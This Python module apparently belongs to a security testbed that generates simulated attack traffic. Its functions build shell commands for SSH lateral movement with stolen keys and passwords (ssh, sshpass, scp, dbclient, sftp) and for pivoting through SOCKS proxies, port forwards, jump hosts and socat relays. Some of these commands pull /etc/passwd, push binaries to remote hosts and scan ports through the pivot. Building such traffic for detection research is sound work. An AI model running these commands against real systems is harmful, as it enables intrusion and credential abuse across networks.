"""Steps from host to host with stolen keys and passwords, and hosts that stand between."""

from testbed.attacks.material import INSIDE, SSH, key_of, others, pause, words
from testbed.attacks.shells import COMMANDS
from testbed.catalogue import Assault, attack

LATERAL = "T1021.004"
PROXY = "T1090.001"


def intruding(c, options: str = "") -> tuple[str, str]:
    """A user, and how to begin a command of an SSH client as that user: with a stolen key or a stolen password."""
    user, key = key_of(c)
    if c.chance(0.5):
        return user.name, f"timeout 9 ssh {SSH} {key} {options}"
    return user.name, f"sshpass -p '{user.password}' timeout 9 ssh {SSH} -o PubkeyAuthentication=no {options}"


def taken_over(c) -> tuple[str, str]:
    """An account of this run alone, and how to begin a command of an SSH client as that user: what the far end opens
    for him is then known to be the run's."""
    user = c.account()
    return user.name, f"sshpass -p '{user.password}' ssh {SSH} -o PubkeyAuthentication=no"


def steps(c) -> str:
    """A few commands for one session."""
    return "; ".join(c.random.sample(COMMANDS, c.between(2, 5))).replace('"', "'")


@attack(
    "lateral_ssh",
    technique=LATERAL,
    tool="ssh",
    origins=INSIDE,
    needs=("ssh",),
    packages=("openssh-client", "sshpass"),
    seconds=50,
)
def ssh_hops(c):
    user, client = intruding(c)
    targets = ssh_servers(c, c.between(2, 6))
    return Assault(
        f'for target in {targets}; do {client} {user}@$target "{steps(c)}"; {pause(c.between(0.2, 3.0))};'
        f' {client} {user}@$target "{steps(c)}"; {pause(c.between(0.2, 2.0))}; done'
    )


@attack(
    "lateral_ssh",
    technique=LATERAL,
    tool="scp",
    origins=INSIDE,
    needs=("ssh",),
    packages=("openssh-client",),
    seconds=50,
)
def scp_hops(c):
    user, key = key_of(c)
    name = f".{c.choose('cache', 'x', 'svc', 'upd')}{c.between(1, 9999)}"
    copied = c.choose("/bin/true", "/bin/ls", "/bin/cp", "/bin/bash")
    return Assault(
        f"for target in {ssh_servers(c, c.between(2, 5))}; do timeout 9 scp -q {SSH} {key} {copied}"
        f" {user.name}@$target:{name}; timeout 9 ssh {SSH} {key} {user.name}@$target 'chmod +x {name}; ls -la {name};"
        f" rm -f {name}; {c.choose('id', 'w', 'last | head -3')}'; {pause(c.between(0.2, 2.5))}; done"
    )


@attack(
    "lateral_ssh",
    technique=LATERAL,
    tool="dbclient",
    origins=INSIDE,
    needs=("ssh",),
    packages=("dropbear-bin",),
    seconds=50,
)
def dropbear_hops(c):
    user = c.user()
    return Assault(
        f"export DROPBEAR_PASSWORD='{user.password}'; for target in {ssh_servers(c, c.between(2, 5))}; do timeout 9"
        f" dbclient -y -y {user.name}@$target \"{steps(c)}\"; {pause(c.between(0.3, 2.5))};"
        f" {c.choose('tar c /etc/ssl', 'cat /bin/ls')} 2>/dev/null | timeout 9 dbclient -y -y"
        f" {user.name}@$target 'cat > .k; rm -f .k'; done"
    )


@attack(
    "lateral_ssh",
    technique=LATERAL,
    tool="sftp",
    origins=INSIDE,
    needs=("ssh",),
    packages=("openssh-client",),
    seconds=50,
)
def sftp_hops(c):
    user, key = key_of(c)
    batch = c.write(
        "batch",
        "\n".join(
            c.random.sample(
                [
                    "ls -la",
                    "ls /home",
                    "ls /etc",
                    "get /etc/passwd",
                    "get /etc/hosts",
                    "get notes.txt",
                    "get report.pdf",
                    "put /bin/true .t",
                    "df -h",
                ],
                c.between(3, 7),
            )
        )
        + "\n",
    )
    return Assault(
        f"for target in {ssh_servers(c, c.between(2, 5))}; do sed 's/^\\(.\\)/-\\1/' {batch} |"
        f" timeout 12 sftp -q {SSH} {key} {user.name}@$target; {pause(c.between(0.3, 2.5))}; done"
    )


def ssh_servers(c, count: int) -> str:
    found = [host.address for host in c.network.servers("ssh") if host is not c.host]
    return " ".join(c.random.sample(found, min(count, len(found))))


def seen_from(c, pivot: str, count: int) -> list[str]:
    """Other hosts, as reached through a pivot."""
    return [address for address in others(c, 99) if address != pivot][:count]


@attack(
    "pivot_socks",
    technique=PROXY,
    tool="ssh -D",
    origins=INSIDE,
    needs=("ssh", "web"),
    packages=("openssh-client", "proxychains4", "nmap", "curl"),
    seconds=40,
)
def ssh_proxy(c):
    user, ssh = taken_over(c)
    pivot, port = c.server("ssh").address, c.between(1080, 1999)
    c.write(
        "proxychains.conf",
        "strict_chain\ntcp_read_time_out 2500\ntcp_connect_time_out 2500\n[ProxyList]\n" f"socks4 127.0.0.1 {port}\n",
    )
    probed = ",".join(
        map(
            str,
            c.random.sample(
                [21, 22, 25, 80, 110, 143, 389, 443, 445, 873, 3306, 5432, 6379, 8080, 8888], c.between(4, 9)
            ),
        )
    )
    web = c.server("web").address
    targets = " ".join(seen_from(c, pivot, c.between(1, 3)))
    scan = f"proxychains4 -q -f proxychains.conf nmap -n -Pn -sT -p {probed} {targets};"
    return Assault(
        words(
            f"{ssh} -N -D 127.0.0.1:{port} {user}@{pivot} & proxy=$!; sleep 2;",
            scan if c.chance(0.7) else "",
            f"for round in $(seq {c.between(2, 8)}); do curl -s -m 5 -x socks5://127.0.0.1:{port} -o /dev/null"
            f" http://{web}/; {pause(c.between(0.1, 2.0))}; done; kill $proxy; sleep 1",
        )
    )


@attack(
    "pivot_socks",
    technique=PROXY,
    tool="ssh -L",
    origins=INSIDE,
    needs=("ssh", "web"),
    packages=("openssh-client", "sshpass", "curl"),
    seconds=40,
)
def ssh_forward(c):
    user, ssh = taken_over(c)
    pivot, port = c.server("ssh").address, c.between(9000, 19000)
    web = c.server("web").address
    target = c.choose(*[host.address for host in c.network.servers("ssh")])
    return Assault(
        f"{ssh} -N -L {port}:{web}:80 -L {port + 1}:{target}:22 {user}@{pivot} & proxy=$!; sleep 2;"
        f" for round in $(seq {c.between(2, 6)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{port}/;"
        f" timeout 7 {ssh}"
        f' -p {port + 1} {user}@127.0.0.1 "{steps(c)}"; {pause(c.between(0.2, 2.0))}; done; kill $proxy; sleep 1'
    )


@attack(
    "pivot_socks",
    technique=PROXY,
    tool="ssh -J",
    origins=INSIDE,
    needs=("ssh",),
    packages=("openssh-client", "sshpass"),
    seconds=40,
)
def ssh_jump(c):
    user, ssh = taken_over(c)
    pivot = c.server("ssh").address
    jump = f'-o "ProxyCommand={ssh} -W %h:%p {user}@{pivot}"'
    return Assault(
        f"for target in {' '.join(seen_from(c, pivot, c.between(1, 3)))}; do for round in $(seq {c.between(1, 3)}); do"
        f' timeout 10 {ssh} {jump} {user}@$target "{steps(c)}"; {pause(c.between(0.3, 2.0))}; done; done'
    )


@attack(
    "pivot_socks",
    technique=PROXY,
    tool="socat relay",
    origins=INSIDE,
    needs=("ssh", "web"),
    packages=("openssh-client", "sshpass", "socat", "curl"),
    seconds=40,
)
def relayed(c):
    user, ssh = taken_over(c)
    pivot, port = c.server("ssh").address, c.between(20000, 29000)
    target = c.choose(c.server("web").address)
    return Assault(
        f"{ssh} {user}@{pivot} 'timeout 25 socat TCP-LISTEN:{port},fork,reuseaddr TCP:{target}:80' &"
        f" relay=$!; sleep 2; for round in $(seq {c.between(3, 10)}); do"
        f" curl -s -m 5 -o /dev/null http://{pivot}:{port}/; {pause(c.between(0.1, 2.0))}; done; kill $relay; sleep 1"
    )
